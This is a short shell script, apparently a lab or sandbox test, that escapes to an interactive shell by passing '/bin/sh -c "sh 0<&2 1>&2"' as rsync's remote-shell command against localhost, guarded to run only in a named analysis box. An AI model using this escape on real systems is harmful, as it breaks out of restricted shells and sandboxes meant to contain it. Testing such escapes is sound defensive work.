#!/bin/sh
# SPDX-License-Identifier: MIT
# Escapes to a shell through rsync: its remote shell command (-e) is a
# shell of the operator's, run for a "remote" host.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
timeout 3 rsync -e '/bin/sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null </dev/null >/dev/null 2>&1
exit 0
